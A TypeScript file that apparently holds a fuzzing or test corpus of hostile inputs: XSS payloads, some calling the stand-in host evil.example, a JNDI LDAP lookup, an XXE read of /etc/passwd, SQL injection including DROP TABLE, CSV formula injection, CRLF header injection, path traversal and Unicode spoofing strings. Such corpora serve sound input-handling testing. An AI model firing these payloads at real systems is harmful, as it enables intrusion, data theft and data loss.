/** Texts that broke other applications. Each is a text like any other here. */
export const payloads: string[] = [
  '<script>alert(1)</script>', '"><script>alert(1)</script>', "'><script>alert(1)</script>", '</script><script>alert(1)</script>', '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>', '</style><script>alert(1)</script>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<script\n>alert(1)</script\n>',
  '"><img src=x onerror=alert(1)>', "'><img src=x onerror=alert(1)>", '<img src=x onerror=alert(1)>', '<img src="x" onerror="alert(1)"', '<IMG """><SCRIPT>alert(1)</SCRIPT>">', '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<svg><script>alert(1)</script></svg>', '<math><mtext></math><img src=x onerror=alert(1)>', '<body onload=alert(1)>', '<iframe src=javascript:alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">', '<object data=javascript:alert(1)>', '<embed src=//evil.example>', '<base href=//evil.example/>', '<link rel=stylesheet href=//evil.example>', '<meta http-equiv=refresh content=0;url=//evil.example>',
  '<form action=//evil.example><input type=submit>', '<button formaction=javascript:alert(1)>x</button>', '<details open ontoggle=alert(1)>', '<video><source onerror=alert(1)>', '<marquee onstart=alert(1)>', '<input autofocus onfocus=alert(1)>',
  '" onmouseover="alert(1)', "' onmouseover='alert(1)", '" autofocus onfocus=alert(1) x="', '" style="background:url(//evil.example)', '`onmouseover=alert(1)',
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', '\u0001javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'vbscript:msgbox(1)', '[a](javascript:alert(1))', '//evil.example', '\\\\evil.example', 'https://evil.example',
  '<!--<script>alert(1)//-->', '--><script>alert(1)</script>', '<![CDATA[<script>alert(1)</script>]]>', '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>',
  '{{7*7}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '{{constructor.constructor("alert(1)")()}}', '$t(site:name)', '{{title}}', '$&$1$`', '%s%n%x', '${jndi:ldap://evil.example/a}',
  '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;', '&amp;amp;', '%3Cscript%3Ealert(1)%3C/script%3E', '\\u003cscript\\u003e', '\\x3cscript\\x3e', '<\\/script>', '\u2028alert(1)\u2029x',
  '=1+1', "=cmd|' /C calc'!A0", '+1+1', '-1+1', '@SUM(1)', "Robert'); DROP TABLE \"Book\";--", "' OR '1'='1", '" OR 1=1 --', "1'; SELECT pg_sleep(5)--", '%_\\%', '(((((', '[a-z', '*', ':*', '& | ! <->', '\\',
  '%00', '%0d%0aSet-Cookie: a=b', 'x\r\nSet-Cookie: a=b', '../../../../etc/passwd', '..%2f..%2fetc%2fpasswd', 'CON', 'null', 'undefined', 'NaN', 'true', '[]', '{}', '__proto__', 'constructor', '-1', '0', '1e309',
  'abc\u202Efdp.exe', '\u2067rtl\u2069', '👨‍👩‍👧‍👦 and 🏳️‍🌈', 'Ёлка, ёж и Ѣ', 'Z\u0351\u036B\u0343\u036A\u0302\u036Balgo\u0334', '𝕏 𝒴 𐍈', 'ﷺﷺﷺ', 'İstanbul ı ß ﬃ', '\u200Bzero\u200Bwidth', '\uFEFFbom inside', 'e\u0301 and \u00e9', '¯\\_(ツ)_/¯', '田中さん', 'مرحبا',
];
